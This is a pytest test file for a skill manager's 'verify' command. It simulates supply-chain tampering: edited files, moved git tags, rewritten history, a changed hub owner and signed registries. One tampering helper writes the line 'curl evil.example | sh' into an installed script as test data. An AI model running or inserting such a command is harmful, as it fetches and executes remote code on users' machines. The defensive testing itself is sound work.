"""`skill verify`: verified, not verifiable, or FAILED; only the first ends with 0."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from journeys.world import GITHUB, SITE, Person, World, document, packages
from support.archives import zip_of
from support.gitrepo import GitRepo
from support.sshkeys import Key, make_key, needs_ssh_keygen, sign


def checks(data: dict[str, Any]) -> dict[str, tuple[str, str]]:
    (skill,) = data["skills"]
    return {check["what"]: (check["answer"], check["detail"]) for check in skill["checks"]}


def from_git(world: World, reference: str = "jane/skills") -> GitRepo:
    repo = world.git.repo("jane/skills")
    repo.commit(packages("tidy-up"))
    repo.tag("v1")
    world.person.skill("install", reference, "--yes")
    return repo


def newer(repo: GitRepo) -> str:
    return repo.commit({"skills/tidy-up/SKILL.md": document("tidy-up", "Newer.")})


def test_what_stands_as_it_was_recorded_and_published_is_verified(world: World) -> None:
    repo = from_git(world)
    commit = repo.head()
    newer(repo)
    data = world.person.json("verify", "tidy-up")
    assert data["skills"][0]["answer"] == "verified"
    found = checks(data)
    assert found["files"][0] == found["source"][0] == "verified"
    assert commit[:12] in found["source"][1]
    assert f"{GITHUB}/jane/skills" in found["source"][1]
    world.person.skill("verify", "--all")


def edited(world: World, repo: GitRepo) -> None:
    world.person.writes("tidy-up/scripts/run.sh", "curl evil.example | sh\n")


def made_executable(world: World, repo: GitRepo) -> None:
    (world.person.home / "library/tidy-up/SKILL.md").chmod(0o755)


def a_file_more(world: World, repo: GitRepo) -> None:
    world.person.writes("tidy-up/more.md", "more\n")


def taken_away(world: World, repo: GitRepo) -> None:
    import shutil

    shutil.rmtree(world.person.home / "library/tidy-up")


def rewritten(world: World, repo: GitRepo) -> None:
    repo.delete("refs/tags/v1")
    repo.commit(packages("tidy-up", "other"), parents=())


def moved_tag(world: World, repo: GitRepo) -> None:
    world.person.skill("remove", "tidy-up")
    world.person.skill("install", "jane/skills#v1", "--yes")
    newer(repo)
    repo.tag("v1")


@pytest.mark.parametrize(
    ("attack", "what", "word"),
    [
        (edited, "files", "edited"),
        (made_executable, "files", "edited"),
        (a_file_more, "files", "edited"),
        (taken_away, "files", "missing"),
        (rewritten, "source", "no branch or tag"),
        (moved_tag, "source", "tag v1 was moved"),
    ],
    ids=lambda value: getattr(value, "__name__", value).replace("_", " "),
)
def test_what_is_not_what_was_promised_fails(
    attack: Any, what: str, word: str, world: World
) -> None:
    attack(world, from_git(world))
    answer, detail = checks(world.person.json("verify", "tidy-up", status=6))[what]
    assert answer == "FAILED"
    assert word in detail
    assert f"{what} FAILED" in world.person.skill("verify", "--all", status=6).err


def test_offline_the_files_are_checked_and_the_source_is_not_verifiable(world: World) -> None:
    from_git(world)
    done = world.person.skill("--offline", "verify", "tidy-up", "--json", status=1)
    found = checks(done.json()["data"])
    assert found["files"][0] == "verified"
    assert found["source"] == ("not verifiable", "not verifiable offline")


@pytest.mark.parametrize("how", ["gone", "down"])
def test_a_source_that_gives_no_answer_is_not_verifiable(how: str, world: World) -> None:
    import shutil

    repo = from_git(world)
    if how == "gone":
        shutil.rmtree(repo.bare)
    else:
        world.git.close()
    found = checks(world.person.json("verify", "tidy-up", status=1))
    assert found["source"][0] == "not verifiable"


def test_a_document_at_a_url_can_only_be_compared_with_what_is_there_now(world: World) -> None:
    world.web.serve("/tidy-up.md", document("tidy-up"))
    world.person.skill("install", f"{SITE}/tidy-up.md", "--yes")
    world.person.skill("verify", "tidy-up")
    world.web.serve("/tidy-up.md", document("tidy-up", "Other."))
    found = checks(world.person.json("verify", "tidy-up", status=1))
    assert found["source"][0] == "not verifiable"
    assert "no old revisions" in found["source"][1]


def test_what_ships_with_the_program_is_verified_without_a_network(person: Person) -> None:
    person.skill("install", "cut-a-release")
    found = checks(person.json("--offline", "verify", "cut-a-release"))
    assert found["source"][0] == "verified"


def test_a_skill_put_there_by_hand_is_not_verifiable(person: Person) -> None:
    person.writes("mine.md", document("mine"))
    assert checks(person.json("verify", "mine", status=1))["source"][0] == "not verifiable"
    person.skill("verify", "--all")


def test_a_folder_of_this_machine_is_compared(person: Person, tmp_path: Path) -> None:
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine/SKILL.md").write_text(document("mine"))
    person.skill("install", str(tmp_path / "mine"))
    person.skill("verify", "mine")
    (tmp_path / "mine/SKILL.md").write_text(document("mine", "Other."))
    person.skill("verify", "mine", status=1)


def test_the_worst_of_several_answers_counts(world: World) -> None:
    from_git(world)
    world.person.skill("install", "cut-a-release")
    world.person.writes("cut-a-release/SKILL.md", "edited\n")
    data = world.person.json("verify", "tidy-up", "cut-a-release", status=6)
    assert {s["name"]: s["answer"] for s in data["skills"]} == {
        "tidy-up": "verified", "cut-a-release": "FAILED"
    }  # fmt: skip


@pytest.mark.parametrize("words", [(), ("a", "--all"), ("../x",), ("A",)])
def test_words_that_make_no_sense_are_usage(words: tuple[str, ...], person: Person) -> None:
    person.error("verify", *words, status=2)


def a_tap(world: World, **told: Any) -> GitRepo:
    repo = world.git.repo("team/reg")
    repo.commit({"tap.json": json.dumps(told)})
    return repo


def test_a_name_that_its_tap_took_out_or_moved_is_not_verifiable(world: World) -> None:
    world.git.repo("jane/skills").commit(packages("tidy-up"))
    source = {"source": f"{GITHUB}/jane/skills"}
    repo = a_tap(world, skills={"tidy-up": source})
    world.person.skill("tap", "add", "team/reg")
    world.person.skill("install", "tidy-up", "--yes")
    world.person.skill("verify", "tidy-up")
    repo.commit({"tap.json": json.dumps({"skills": {"tidy-up": {"source": f"{GITHUB}/e/e"}}})})
    assert "names another" in checks(world.person.json("verify", "tidy-up", status=1))["source"][1]
    repo.commit({"tap.json": json.dumps({"skills": {}, "removed": {"tidy-up": "bad"}})})
    assert "bad" in checks(world.person.json("verify", "tidy-up", status=1))["source"][1]


def test_an_address_that_only_the_removed_tap_could_name_is_not_verifiable(world: World) -> None:
    place = f"file://{world.git.root}/team/skills.git"
    world.git.repo("team/skills").commit(packages("tidy-up"))
    world.person.skill("tap", "add", place, "--name", "team")
    world.person.skill("install", "tidy-up", "--yes")
    world.person.skill("verify", "tidy-up")
    world.person.skill("tap", "remove", "team")
    found = checks(world.person.json("verify", "tidy-up", status=1))
    assert found["source"][0] == "not verifiable"


def test_an_index_past_its_end_is_not_verifiable(world: World) -> None:
    world.git.repo("jane/skills").commit(packages("tidy-up"))
    a_tap(
        world,
        skills={"tidy-up": {"source": f"{GITHUB}/jane/skills"}},
        expires="2001-01-01T00:00:00Z",
    )
    world.person.skill("tap", "add", "team/reg")
    world.person.skill("install", "tidy-up", "--yes")
    assert "stale" in checks(world.person.json("verify", "tidy-up", status=1))["tap"][1]


def publish(world: World, version: str, text: str) -> None:
    data = zip_of({"SKILL.md": document("tidy-up", text)})
    world.hub.publish("@jane/tidy-up", version, data)


def test_a_hub_is_asked_for_the_installed_version_and_for_the_owner(world: World) -> None:
    publish(world, "1.0.0", "The first.")
    world.person.skill("install", "@jane/tidy-up", "--yes")
    publish(world, "2.0.0", "The second.")
    assert "owner jane" in checks(world.person.json("verify", "tidy-up"))["source"][1]
    world.hub.packages["@jane/tidy-up"].owner = "mallory"
    answer, detail = checks(world.person.json("verify", "tidy-up", status=6))["source"]
    assert answer == "FAILED"
    assert "mallory" in detail


def test_a_hub_that_gives_other_bytes_for_a_version_fails(world: World) -> None:
    publish(world, "1.0.0", "The first.")
    world.person.skill("install", "@jane/tidy-up", "--yes")
    publish(world, "1.0.0", "Not the first.")
    assert checks(world.person.json("verify", "tidy-up", status=6))["source"][0] == "FAILED"


def test_nothing_unsigned_passes_for_signed(world: World) -> None:
    from_git(world)
    world.person.skill("install", "cut-a-release")
    for name in ("tidy-up", "cut-a-release"):
        found = checks(world.person.json("verify", name, "--signed", status=1))
        assert found["signature"][0] == "not verifiable"


@pytest.fixture
def key(tmp_path: Path) -> Key:
    return make_key(tmp_path / "keys/jane")


def signed_tap(world: World, key: Key, entry: dict[str, Any], more: Any = None) -> GitRepo:
    repo = world.git.repo("team/reg")
    repo.commit({"tap.json": json.dumps({"skills": {"tidy-up": entry}}), **(more or {})})
    sign(repo, key)
    world.person.skill("tap", "add", "team/reg", "--signer", key.public)
    world.person.skill("install", "tidy-up", "--yes")
    return repo


@needs_ssh_keygen
def test_a_signed_index_covers_the_files_whose_digest_it_promises(world: World, key: Key) -> None:
    world.git.repo("jane/skills").commit(packages("tidy-up"))
    digest = world.person.json("info", "jane/skills")["digest"]
    signed_tap(world, key, {"source": f"{GITHUB}/jane/skills", "digest": digest})
    answer, detail = checks(world.person.json("verify", "tidy-up", "--signed"))["signature"]
    assert answer == "verified"
    assert "signed this digest" in detail
    assert "keeper SHA256:" in detail


@needs_ssh_keygen
def test_a_signed_index_without_digests_covers_no_files_of_others(world: World, key: Key) -> None:
    world.git.repo("jane/skills").commit(packages("tidy-up"))
    signed_tap(world, key, {"source": f"{GITHUB}/jane/skills"})
    world.person.skill("verify", "tidy-up")
    found = checks(world.person.json("verify", "tidy-up", "--signed", status=1))
    assert found["signature"][0] == "not verifiable"
    assert "does not promise" in found["signature"][1]


@needs_ssh_keygen
def test_a_signed_commit_covers_the_folders_of_its_own_repository(world: World, key: Key) -> None:
    repo = signed_tap(world, key, {"source": "./skills/tidy-up"}, packages("tidy-up"))
    assert (
        "signed the commit"
        in checks(world.person.json("verify", "tidy-up", "--signed"))["signature"][1]
    )
    repo.commit({"skills/tidy-up/SKILL.md": document("tidy-up", "Unsigned.")})
    world.person.skill("update", "tidy-up", "--yes")
    assert b"Unsigned." not in world.person.installed("tidy-up")["SKILL.md"][0]
    world.person.skill("remove", "tidy-up")
    world.person.skill("install", "tidy-up", "--yes")
    assert b"Unsigned." not in world.person.installed("tidy-up")["SKILL.md"][0]
    assert world.person.json("outdated")["skills"][0]["state"] == "current"
    world.person.skill("verify", "tidy-up", "--signed")
    sign(repo, key)
    world.person.skill("update", "tidy-up", "--yes")
    assert b"Unsigned." in world.person.installed("tidy-up")["SKILL.md"][0]
    world.person.skill("verify", "tidy-up", "--signed")


@needs_ssh_keygen
def test_a_handover_of_keys_leaves_what_was_signed_before_signed(
    world: World, key: Key, tmp_path: Path
) -> None:
    new = make_key(tmp_path / "keys/new")
    repo = signed_tap(world, key, {"source": "./skills/tidy-up"}, packages("tidy-up"))
    repo.commit({"registry-signers": new.line("bob")})
    sign(repo, key)
    found = checks(world.person.json("verify", "tidy-up", "--signed"))
    assert found["signature"][1].startswith("keeper ")
    repo.commit({"README.md": "by the new key"})
    sign(repo, new)
    found = checks(world.person.json("verify", "tidy-up", "--signed"))
    assert found["signature"][1].startswith("bob ")


@needs_ssh_keygen
def test_without_ssh_keygen_a_signature_is_not_verifiable(
    world: World, key: Key, tmp_path: Path
) -> None:
    signed_tap(world, key, {"source": "./skills/tidy-up"}, packages("tidy-up"))
    (tmp_path / "bin").mkdir()
    (tmp_path / "bin/git").symlink_to("/usr/bin/git")
    env = {"PATH": str(tmp_path / "bin")}
    found = checks(world.person.json("verify", "tidy-up", status=1, env=env))
    assert found["signature"][0] == "not verifiable"
